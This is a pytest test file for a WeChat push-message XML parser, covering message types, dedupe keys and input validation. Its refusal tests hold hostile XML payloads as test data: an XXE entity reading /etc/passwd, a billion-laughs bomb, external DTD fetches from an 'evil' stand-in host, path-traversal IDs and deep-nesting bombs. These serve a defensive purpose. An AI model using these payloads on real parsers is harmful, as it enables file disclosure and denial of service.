"""Parsing every inbound type of docs/protocol.md §4, and refusing what is not a push."""

from __future__ import annotations

import pytest

from shared.wechat import (
    ClickEvent,
    ErrorCode,
    ImageMessage,
    JobFinishEvent,
    KfSessionEvent,
    KfSwitchSessionEvent,
    LinkMessage,
    LocationEvent,
    LocationMessage,
    LocationSelectEvent,
    MiniProgramPageMessage,
    PicEvent,
    ProtocolError,
    ScanCodeEvent,
    ScanEvent,
    ShortVideoMessage,
    SubscribeEvent,
    TextMessage,
    UnknownEvent,
    UnknownMessage,
    UnsubscribeEvent,
    VideoMessage,
    ViewEvent,
    VoiceMessage,
    parse_message,
)
from tests.unit.wechat_support import refused
from tools.wechat_simulator import push_xml

HEADER = {"ToUserName": "gh_97417a04a28d", "FromUserName": "oUser123", "CreateTime": 1714112445}


def push(msg_type: str, **fields) -> str:
    return push_xml({**HEADER, "MsgType": msg_type, **fields})


def event(name: str, **fields) -> str:
    return push("event", Event=name, **fields)


CASES = [
    (push("text", Content="你好 😀", MsgId=1234567890123456789), TextMessage,
     {"content": "你好 😀", "msg_id": 1234567890123456789}),
    (push("text", Content="x", MsgId=1, MsgDataId="10001", Idx=1), TextMessage,
     {"msg_data_id": "10001", "idx": 1}),
    (push("text", Content="满意", MsgId=2, bizmsgmenuid="101"), TextMessage,
     {"bizmsgmenuid": "101"}),
    (push("image", PicUrl="http://p/1.jpg", MediaId="m1", MsgId=3), ImageMessage,
     {"pic_url": "http://p/1.jpg", "media_id": "m1"}),
    (push("voice", MediaId="m2", Format="amr", Recognition="腾讯", MsgId=4), VoiceMessage,
     {"media_id": "m2", "format": "amr", "recognition": "腾讯"}),
    (push("video", MediaId="m3", ThumbMediaId="t3", MsgId=5), VideoMessage,
     {"media_id": "m3", "thumb_media_id": "t3"}),
    (push("shortvideo", MediaId="m4", ThumbMediaId="t4", MsgId=6), ShortVideoMessage,
     {"media_id": "m4"}),
    (push("location", Location_X=23.134521, Location_Y=113.358803, Scale=20, Label="广州",
          MsgId=7), LocationMessage,
     {"location_x": 23.134521, "location_y": 113.358803, "scale": 20, "label": "广州"}),
    (push("link", Title="t", Description="d", Url="https://e.com", MsgId=8), LinkMessage,
     {"title": "t", "url": "https://e.com"}),
    (push("miniprogrampage", AppId="wxapp", Title="t", PagePath="pages/i", ThumbUrl="u",
          ThumbMediaId="tm", MsgId=9), MiniProgramPageMessage,
     {"app_id": "wxapp", "page_path": "pages/i"}),
    (event("subscribe"), SubscribeEvent, {"event": "subscribe", "scene": None}),
    (event("subscribe", EventKey="qrscene_123", Ticket="TICKET"), SubscribeEvent,
     {"scene": "123", "ticket": "TICKET"}),
    (event("unsubscribe"), UnsubscribeEvent, {"event": "unsubscribe"}),
    (event("SCAN", EventKey="123", Ticket="TICKET"), ScanEvent, {"event": "scan", "scene": "123"}),
    (event("LOCATION", Latitude=23.137466, Longitude=113.352425, Precision=119.385040),
     LocationEvent, {"latitude": 23.137466, "precision": 119.38504}),
    (event("CLICK", EventKey="MENU_HELP"), ClickEvent,
     {"event": "click", "event_key": "MENU_HELP"}),
    (event("VIEW", EventKey="https://e.com", MenuId="208"), ViewEvent, {"menu_id": "208"}),
    (event("scancode_push", EventKey="k", ScanCodeInfo={"ScanType": "qrcode", "ScanResult": "1"}),
     ScanCodeEvent, {"event": "scancode_push"}),
    (event("scancode_waitmsg", EventKey="k",
           ScanCodeInfo={"ScanType": "qrcode", "ScanResult": "2"}), ScanCodeEvent, {}),
    (event("pic_sysphoto", EventKey="k",
           SendPicsInfo={"Count": 1, "PicList": [{"PicMd5Sum": "abc"}]}), PicEvent, {}),
    (event("pic_photo_or_album", EventKey="k", SendPicsInfo={"Count": 0, "PicList": ""}),
     PicEvent, {}),
    (event("pic_weixin", EventKey="k",
           SendPicsInfo={"Count": 2, "PicList": [{"PicMd5Sum": "a"}, {"PicMd5Sum": "b"}]}),
     PicEvent, {}),
    (event("location_select", EventKey="k",
           SendLocationInfo={"Location_X": 23, "Location_Y": 113, "Scale": 15, "Label": "l",
                             "Poiname": "p"}), LocationSelectEvent, {}),
    (event("kf_create_session", KfAccount="test1@test"), KfSessionEvent,
     {"kf_account": "test1@test"}),
    (event("kf_close_session", KfAccount="test1@test"), KfSessionEvent, {}),
    (event("kf_switch_session", FromKfAccount="a@t", ToKfAccount="b@t"), KfSwitchSessionEvent,
     {"from_kf_account": "a@t", "to_kf_account": "b@t"}),
    (event("TEMPLATESENDJOBFINISH", MsgID=200163836, Status="success"), JobFinishEvent,
     {"msg_id": 200163836, "status": "success"}),
    (event("MASSSENDJOBFINISH", MsgID=1988, Status="sendsuccess", TotalCount=100), JobFinishEvent,
     {"msg_id": 1988}),
]  # fmt: skip


@pytest.mark.parametrize(("xml", "model", "expected"), CASES)
def test_every_type_gets_its_model(xml, model, expected):
    message = parse_message(xml)
    assert type(message) is model
    assert message.to_user_name == HEADER["ToUserName"]
    assert message.from_user_name == HEADER["FromUserName"]
    assert message.create_time == HEADER["CreateTime"]
    for name, value in expected.items():
        assert getattr(message, name) == value


def test_nested_event_fields():
    scan = parse_message(CASES[17][0])
    assert scan.scan_code_info.scan_type == "qrcode"
    assert scan.scan_code_info.scan_result == "1"
    pics = parse_message(CASES[21][0])
    assert pics.send_pics_info.count == 2
    assert pics.send_pics_info.pic_md5_sums == ["a", "b"]
    assert parse_message(CASES[19][0]).send_pics_info.pic_md5_sums == ["abc"]
    assert parse_message(CASES[20][0]).send_pics_info.pic_md5_sums == []
    location = parse_message(CASES[22][0]).send_location_info
    assert (location.location_x, location.poi_name) == (23.0, "p")


def test_unknown_message_type_keeps_every_field():
    message = parse_message(push("hologram", Depth="3", MsgId=77, Nested={"A": "1"}))
    assert type(message) is UnknownMessage
    assert message.msg_type == "hologram"
    assert message.model_extra == {"Depth": "3", "MsgId": "77", "Nested": {"A": "1"}}
    assert message.dedupe_key == "msg:77"


def test_unknown_event_keeps_every_field():
    message = parse_message(event("debug_demo", debug_str="hello world"))
    assert type(message) is UnknownEvent
    assert message.event == "debug_demo"
    assert message.model_extra == {"debug_str": "hello world"}


def test_known_type_with_unexpected_fields_keeps_them():
    message = parse_message(push("text", Content="x", MsgId=1, Future="yes"))
    assert type(message) is TextMessage
    assert message.model_extra == {"Future": "yes"}


def test_known_type_that_does_not_fit_its_model_is_kept_as_unknown():
    message = parse_message(push("image", MsgId=5))  # no MediaId
    assert type(message) is UnknownMessage
    assert message.dedupe_key == "msg:5"


class TestDedupeKeys:
    def test_message_key_is_msg_id(self):
        assert parse_message(CASES[0][0]).dedupe_key == "msg:1234567890123456789"

    def test_event_key_is_sender_time_and_event(self):
        assert parse_message(event("CLICK", EventKey="k")).dedupe_key == (
            "evt:oUser123:1714112445:click"
        )

    def test_msg_id_keeps_all_64_bits(self):
        largest = 2**64 - 1
        message = parse_message(push("text", Content="x", MsgId=largest))
        assert message.msg_id == largest
        assert message.dedupe_key == f"msg:{largest}"

    def test_msg_id_beyond_64_bits_is_kept_verbatim(self):
        message = parse_message(push("text", Content="x", MsgId=2**64))
        assert type(message) is UnknownMessage
        assert message.dedupe_key == f"msg:{2**64}"


XXE = """<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>gh_1</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime>
<MsgType>text</MsgType><Content>&xxe;</Content><MsgId>1</MsgId></xml>"""

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><Content>&lol4;</Content></xml>"""


class TestRefusals:
    def test_external_entity(self):
        refused(ErrorCode.XML_REFUSED, parse_message, XXE)

    def test_billion_laughs(self):
        refused(ErrorCode.XML_REFUSED, parse_message, BILLION_LAUGHS)

    def test_any_doctype(self):
        refused(
            ErrorCode.XML_REFUSED,
            parse_message,
            '<!DOCTYPE xml SYSTEM "http://evil/x.dtd"><xml></xml>',
        )

    def test_external_parameter_entity(self):
        refused(
            ErrorCode.XML_REFUSED,
            parse_message,
            '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><xml/>',
        )

    @pytest.mark.parametrize("body", ["", "<xml>", "not xml", b"\xff\xfe<", "<xml></XML>"])
    def test_malformed(self, body):
        refused(ErrorCode.BAD_XML, parse_message, body)

    def test_wrong_root(self):
        refused(ErrorCode.BAD_XML, parse_message, "<root><MsgType>text</MsgType></root>")

    def test_missing_header(self):
        with pytest.raises(ProtocolError) as caught:
            parse_message("<xml><MsgType>text</MsgType><Content>x</Content></xml>")
        assert caught.value.code is ErrorCode.BAD_XML
        assert "ToUserName" in caught.value.message

    def test_body_too_large(self):
        body = push("text", Content="x" * 1024 * 1024, MsgId=1)
        refused(ErrorCode.BODY_TOO_LARGE, parse_message, body)

    def test_size_limit_is_configurable(self):
        with pytest.raises(ProtocolError) as caught:
            parse_message(CASES[0][0], max_bytes=100)
        assert caught.value.code is ErrorCode.BODY_TOO_LARGE


class TestIdentifiers:
    """Ids that end up in Table keys, blob names and the transcript's order are refused at the
    door when malformed, rather than stored and failing every pipeline step after."""

    @pytest.mark.parametrize(
        ("name", "value"),
        [
            ("FromUserName", "o/../../other-account"),
            ("FromUserName", "o#frag?x"),
            ("FromUserName", "o\tx"),
            ("FromUserName", "o" * 65),
            ("FromUserName", ""),
            ("ToUserName", "someone"),
            ("ToUserName", "gh_a/b"),
            ("MsgType", "te/xt"),
            ("MsgId", "12abc"),
            ("MsgId", "-1"),
            ("MsgId", "1" * 21),
            ("CreateTime", "-5"),
            ("CreateTime", "1e9"),
            ("CreateTime", "17141124450"),
            ("CreateTime", "999999999"),
        ],
    )
    def test_malformed_identifier_is_refused(self, name, value):
        fields = {**HEADER, "MsgType": "text", "Content": "x", "MsgId": 1, name: value}
        with pytest.raises(ProtocolError) as caught:
            parse_message(push_xml(fields))
        assert caught.value.code is ErrorCode.BAD_XML
        assert name in caught.value.message

    @pytest.mark.parametrize("name", ["SCAN/x", "click event", "a" * 65])
    def test_malformed_event_name_is_refused(self, name):
        refused(ErrorCode.BAD_XML, parse_message, event(name, EventKey="k"))

    def test_repeated_header_element_is_refused(self):
        body = push("text", Content="x", MsgId=1).replace(
            "</xml>", "<FromUserName>oSecond</FromUserName></xml>"
        )
        refused(ErrorCode.BAD_XML, parse_message, body)

    def test_wechat_shapes_pass(self):
        message = parse_message(
            push_xml(
                {
                    "ToUserName": "gh_97417a04a28d",
                    "FromUserName": "o9AgO5Kd5ggOC-bXrbNODIiE3bGY",
                    "CreateTime": 1714112445,
                    "MsgType": "event",
                    "Event": "TEMPLATESENDJOBFINISH",
                    "MsgID": 200163836,
                    "Status": "success",
                }
            )
        )
        assert isinstance(message, JobFinishEvent)
        assert message.from_user_name == "o9AgO5Kd5ggOC-bXrbNODIiE3bGY"


class TestNesting:
    def test_wechats_deepest_push_parses(self):
        body = event(
            "pic_weixin",
            EventKey="k",
            SendPicsInfo={"Count": 1, "PicList": [{"PicMd5Sum": "abc"}]},
        )
        assert isinstance(parse_message(body), PicEvent)

    def test_deep_nesting_is_refused(self):
        deep = "<a>" * 9 + "x" + "</a>" * 9
        with pytest.raises(ProtocolError) as caught:
            parse_message(push("text", Content="x", MsgId=1).replace("</xml>", deep + "</xml>"))
        assert caught.value.code is ErrorCode.BAD_XML
        assert "levels deep" in caught.value.message

    def test_eight_levels_are_allowed(self):
        deep = "<a>" * 8 + "x" + "</a>" * 8
        parse_message(push("text", Content="x", MsgId=1).replace("</xml>", deep + "</xml>"))

    def test_ten_thousand_levels_are_refused_early(self):
        deep = "<a>" * 10_000 + "</a>" * 10_000
        with pytest.raises(ProtocolError) as caught:
            parse_message(push("text", Content="x", MsgId=1).replace("</xml>", deep + "</xml>"))
        assert "levels deep" in caught.value.message
